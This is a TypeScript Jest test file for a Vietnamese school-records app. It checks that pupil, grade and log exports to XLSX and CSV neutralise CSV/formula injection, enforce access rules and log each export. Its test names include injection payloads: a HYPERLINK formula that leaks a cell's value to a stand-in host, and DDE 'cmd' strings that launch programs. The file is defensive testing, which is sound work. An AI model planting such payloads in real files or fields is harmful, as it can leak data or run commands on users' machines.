import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { strFromU8, unzipSync } from 'fflate';
import type { DataSource } from 'typeorm';
import { writeCsv } from '../../activities/exports/write-csv.ts';
import { readCsv } from '../../activities/roster/read-csv.ts';
import { readWorkbook } from '../../activities/roster/read-workbook.ts';
import { MOST_ROWS, tableOf } from '../../api/exports/export-route.ts';
import { nameSortKey } from '../../domain/text/sort-key.ts';
import { newId } from '../../persistence/ulid.ts';
import { aPerson, aProvince, grant, type Province } from '../province.ts';
import { renamePupil } from '../renamed-pupil.ts';
import { recordsOf } from '../rows.ts';
import { until } from '../until.ts';
import { type ApiStage, openApiStage } from './api-stage.ts';
import type { Visitor } from './server.ts';
import { writeListHere } from './write-list-here.ts';

let stage: ApiStage;
let database: DataSource;
let province: Province;
let administrator: Visitor;
let principal: Visitor;
let teacher: Visitor;
let officer: Visitor;

const NAMES = ['=HYPERLINK("http://example.invalid/?"&C2,"Bảo")', '+84 Bảo', '-Đức', '@SUM(1+1)', '=cmd|A0', 'Ánh'];
const COMMENT = '- Em tiến bộ';

beforeAll(async () => {
  stage = await openApiStage();
  ({ database } = stage);
  province = await aProvince(database, { grade: 5, pupils: NAMES.length });
  for (const [i, name] of NAMES.entries()) await renamePupil(database, province.enrolments[i] ?? '', name);
  const { people, provinceId } = province;
  for (const person of [people.subjectTeacher, people.homeroomTeacher])
    await grant(database, person, 'teacher', province.schoolId);
  await database.query(`UPDATE assignment SET to_day = '2026-01-02' WHERE class_id = ? AND subject = 'natureSociety'`, [
    province.classId,
  ]);
  await grant(database, people.stranger, 'provinceOfficer', provinceId);
  await grant(database, people.stranger, 'provinceAdministrator', provinceId);
  administrator = await stage.visit(people.administrator);
  principal = await stage.visit(people.principal);
  teacher = await stage.visit(people.subjectTeacher);
  officer = await stage.visit(people.stranger);
}, 60_000);
afterAll(() => stage.close());

const take = (who: Visitor, page: string, format: string) => who.post(page, { format });

/** The file's cells as our own reader has them; and the bytes, for what no reader should meet. */
async function taken(who: Visitor, page: string, format: 'xlsx' | 'csv') {
  const response = await take(who, page, format);
  expect([page, response.status]).toEqual([page, 200]);
  const bytes = Buffer.from(await response.arrayBuffer());
  const table = format === 'xlsx' ? await readWorkbook(bytes) : readCsv(bytes);
  const cells = table.rows.map((row) => row.cells.map((cell) => cell?.text ?? ''));
  const kinds = new Set(table.rows.flatMap((row) => row.cells.flatMap((cell) => cell?.kind ?? [])));
  return { bytes, cells, kinds, headers: response.headers };
}

const sheetXml = (bytes: Buffer): string => strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
const addressOfGrid = (subject: string) => `/classes/${province.classId}/sheets/${subject}/yearEnd`;
const recordId = async () => (await recordsOf(database, province))[0]?.id ?? '';
const logged = async (what: string) =>
  database.query<{ person_id: string; format: string; row_count: number; of_id: string }[]>(
    'SELECT person_id, format, row_count, of_id FROM export_log WHERE unit_id IN (?) AND what = ? ORDER BY id',
    [[province.schoolId, province.provinceId], what],
  );

describe('the pupils of the school (EX11)', () => {
  it('as xlsx are text cells alone, each value unchanged, in the Vietnamese order', async () => {
    const { bytes, cells, kinds } = await taken(administrator, '/rosters/lists/pupils/export', 'xlsx');
    const [heads = [], ...rows] = cells;
    const names = rows.map((row) => row[heads.indexOf('Họ và tên')] ?? '');
    expect(names).toEqual(NAMES.toSorted((a, b) => (nameSortKey(a) < nameSortKey(b) ? -1 : 1)));
    expect([...kinds]).toEqual(['text']);
    expect(sheetXml(bytes)).not.toMatch(/<f[ >/]|<v>/);
    expect(sheetXml(bytes).match(/<c /g)?.length).toBe(sheetXml(bytes).match(/ t="inlineStr"/g)?.length);
  });

  it('as CSV are neutralised, marked as UTF-8, and read back as they were', async () => {
    const { bytes, cells } = await taken(administrator, '/rosters/lists/pupils/export', 'csv');
    const text = bytes.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://example.invalid/?""&C2,""Bảo"")"`);
    for (const name of ['+84 Bảo', '-Đức', '@SUM(1+1)', '=cmd|A0']) expect(text).toContain(`,'${name},`);
    expect(text).not.toMatch(/(^|,)"?[=+\-@\t]/m);
    expect(cells.flat()).toEqual(expect.arrayContaining(NAMES));
  });

  it.each([
    ['classes', 'xlsx'],
    ['pupils', 'xlsx'],
    ['pupils', 'csv'],
    ['assignments', 'xlsx'],
  ] as const)(
    '%s taken along as %s and read in again are nothing new',
    async (list, format) => {
      const { bytes, cells } = await taken(administrator, `/rosters/lists/${list}/export`, format);
      const uploaded = await administrator.upload('/rosters', { list, file: new Blob([new Uint8Array(bytes)]) });
      const { rosterId } = (await uploaded.json()) as { rosterId: string };
      const preview = await (await administrator.get(`/rosters/${rosterId}`, 'application/json')).json();
      const rows = cells.length - 1;
      expect(preview).toMatchObject({
        counts: { rows, new: 0, changed: 0, unchanged: rows, held: 0, refused: 0 },
      });
      expect(rows).toBeGreaterThan(0);
    },
    20_000,
  );

  it('come from the file of the field case as they were typed, and go out again', async () => {
    const file = readFileSync(join(import.meta.dirname, '../roster/files/ex11-formula-names.csv'), 'utf8');
    const year = String(Date.now()).slice(-8);
    const own = file
      .replaceAll('HS490000', `H${year}`)
      .replaceAll('5A2', '5A1')
      .replaceAll('0493070', `04${year.slice(-5)}`);
    const uploaded = await administrator.upload('/rosters', { list: 'pupils', file: new Blob([own]) });
    const { rosterId } = (await uploaded.json()) as { rosterId: string };
    expect((await administrator.send(`/rosters/${rosterId}/write`, {})).status).toBe(200);
    await writeListHere(stage, rosterId);
    const result = await administrator.get(`/rosters/${rosterId}`, 'application/json');
    expect(await result.json()).toMatchObject({ written: { counts: { new: 6 } } });

    const { cells } = await taken(administrator, '/rosters/lists/pupils/export', 'xlsx');
    const of = cells.filter((row) => row[0]?.startsWith(`H${year}`)).map((row) => row[2]);
    expect(of.toSorted()).toEqual(
      [NAMES[0], '+84 Bảo', '-Đức', '@SUM(1+1)', 'Tab trước', "=cmd|' /C calc'!A0"].toSorted(),
    );
  }, 20_000);
});

describe('what else is taken along', () => {
  it('has the grid’s comments as they were typed, and neutralised in a CSV', async () => {
    const [enrolmentId] = province.enrolments;
    const cells = [{ enrolmentId, field: 'comment', typed: COMMENT, rev: 0 }];
    expect((await teacher.send(`${addressOfGrid('math')}/cells`, { cells })).status).toBe(200);

    const xlsx = await taken(teacher, `${addressOfGrid('math')}/export`, 'xlsx');
    expect(xlsx.cells.find((row) => row[1] === NAMES[0])).toContain(COMMENT);
    expect(xlsx.cells[0]).toEqual(['TT', 'Họ và tên', 'Mức đạt được', 'Điểm KTĐK', 'Nhận xét', 'Tình trạng']);
    const csv = await taken(teacher, `${addressOfGrid('math')}/export`, 'csv');
    expect(csv.bytes.toString('utf8')).toContain(`,'${COMMENT},`);
    expect((await teacher.get(addressOfGrid('math'))).status).toBe(200);
  });

  it('has the homeroom grid with its derived result and what is missing', async () => {
    const { cells } = await taken(principal, `${addressOfGrid('homeroom')}/export`, 'xlsx');
    expect(cells).toHaveLength(NAMES.length + 1);
    expect(cells[0]).toEqual(expect.arrayContaining(['Yêu nước', 'Kết quả năm học', 'Còn thiếu gì, của ai']));
    expect(cells[1]?.at(-1)).toMatch(/^Chủ nhiệm: \d+ mục; .*Tiếng Việt: Nguyễn Thị Bưởi/);
    const ready = await taken(principal, `${addressOfGrid('homeroom')}/export?only=ready`, 'xlsx');
    expect(ready.cells).toHaveLength(1);
  });

  it('is the list of the page, in its order: records of a class, workflows, the log of changes, the overview', async () => {
    const records = await taken(principal, `/classes/${province.classId}/records/export`, 'xlsx');
    expect(records.cells.slice(1, 7).map((row) => row[1])).toEqual(
      NAMES.toSorted((a, b) => (nameSortKey(a) < nameSortKey(b) ? -1 : 1)),
    );
    const workflows = await taken(officer, '/workflows/export?kind=classSheet', 'csv');
    expect(workflows.cells.slice(1).map((row) => row[1])).not.toContain('recordYear');
    expect(workflows.cells.length).toBeGreaterThan(5);
    const overview = await taken(officer, `/provinces/${province.provinceId}/overview/export`, 'xlsx');
    expect(overview.cells[0]?.[0]).toBe('Địa bàn');
    expect((await taken(officer, '/rounds/changes/export', 'xlsx')).cells).toHaveLength(1);
    for (const list of ['packages', 'refused'])
      expect((await taken(officer, `${await roundPage()}/report/${list}/export`, 'csv')).cells).toHaveLength(1);
  });

  it('is nobody’s who may not read its page: an administrator takes no grid along (D31)', async () => {
    expect((await take(administrator, `${addressOfGrid('math')}/export`, 'xlsx')).status).toBe(404);
    const { cells } = await taken(administrator, `/records/${await recordId()}/export`, 'xlsx');
    expect(cells[0]).toEqual(['Lúc', 'Ai', 'Việc', 'Lý do, ghi chú', 'Đã đổi']);
  });

  it('comes as an attachment that nobody stores, named by words, class and day alone', async () => {
    const { headers } = await taken(teacher, `${addressOfGrid('math')}/export`, 'csv');
    expect(headers.get('cache-control')).toBe('no-store');
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="toan-5a1-cuoi-nam-hoc-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const history = await take(principal, `/records/${await recordId()}/export`, 'xlsx');
    expect(history.headers.get('content-disposition')).toMatch(/"lich-su-hoc-ba-5a1-\d{4}-\d\d-\d\d\.xlsx"$/);
  });
});

describe('a list that is longer than a file may be', () => {
  it('ends at its bound and says so in its last row; 2,000 pupils are whole', () => {
    const long = (n: number) => {
      const rows = Array.from({ length: n }, (_, i) => [`${i + 1}`, `=Trần Gia Bảo ${i + 1}`]);
      const file = writeCsv(tableOf({ heads: ['TT', 'Họ và tên'], rows }, 'vi'));
      return new TextDecoder().decode(file).trim().split('\r\n');
    };
    expect(long(2_000).at(-1)).toBe("2000,'=Trần Gia Bảo 2000");
    const cut = long(MOST_ROWS + 1);
    expect(cut).toHaveLength(MOST_ROWS + 2);
    expect(cut.at(-1)).toContain(`Tệp dừng ở dòng ${MOST_ROWS}`);
  });
});

describe('a list of five thousand rows', () => {
  it('keeps nobody waiting: a page asked for while the file is being written comes before it', async () => {
    const { id, of } = { id: newId().slice(0, 21), of: province.provinceId };
    const rows = Array.from({ length: MOST_ROWS }, (_, i) => `${id}${i + 10_000}`);
    await database.query(
      'INSERT INTO export_log (id, person_id, unit_id, what, of_id, format, row_count, at) VALUES ?',
      [rows.map((row) => [row, province.people.stranger, of, 'overview', of, 'csv', 1, new Date(1)])],
    );
    const events: string[] = [];
    const before = (await logged('exports')).length;
    const file = take(officer, '/exports/export', 'xlsx').finally(() => events.push('file'));
    await until('its writing begins', async () => (await logged('exports')).length > before);
    expect((await officer.get('/sign-in')).status).toBeLessThan(400);
    events.push('page');
    const xml = sheetXml(Buffer.from(await (await file).arrayBuffer()));
    expect(xml.match(/<row /g)).toHaveLength(MOST_ROWS + 2);
    expect(events).toEqual(['page', 'file']);
  });
});

describe('the log of exports', () => {
  it('keeps each one: who, what, in which form, how many rows', async () => {
    const before = await logged('classRecords');
    await taken(principal, `/classes/${province.classId}/records/export`, 'csv');
    await taken(principal, `/classes/${province.classId}/records/export`, 'xlsx');
    const rows = (await logged('classRecords')).slice(before.length);
    const person_id = province.people.principal;
    expect(rows).toEqual([
      expect.objectContaining({ person_id, format: 'csv', of_id: province.classId }),
      expect.objectContaining({ person_id, format: 'xlsx', of_id: province.classId }),
    ]);
  });

  it('is read by who answers for the school, and by nobody of another', async () => {
    const page = await (await principal.get('/exports')).text();
    expect(page).toContain('Học bạ của lớp');
    expect(page).toContain('Nguyễn Thị Bưởi');
    const { cells } = await taken(administrator, '/exports/export', 'xlsx');
    expect(cells.flat()).toContain('Bảng nhập của lớp');
    expect((await teacher.get('/exports')).status).toBe(404);

    const other = await aProvince(database, { pupils: 1 });
    const elsewhere = await stage.visit(other.people.principal);
    expect(await (await elsewhere.get('/exports')).text()).not.toContain('Nguyễn Thị Bưởi');
  });

  it('has no line for what was not given out, and none that another site asked for', async () => {
    const before = (await logged('classRecords')).length;
    const page = `/classes/${province.classId}/records/export`;
    expect((await take(principal, page, 'exe')).status).toBe(422);
    expect((await take(await stage.visit(await aPerson(database, 'Ai Đó')), page, 'csv')).status).toBe(404);
    expect((await principal.post(page, { format: 'csv', csrf: 'guessed' })).status).toBe(403);
    expect(await logged('classRecords')).toHaveLength(before);
  });
});

async function roundPage(): Promise<string> {
  const [round] = await database.query<{ id: string }[]>('SELECT id FROM round WHERE province_id = ? AND n = 1', [
    province.provinceId,
  ]);
  return `/rounds/${round?.id}`;
}
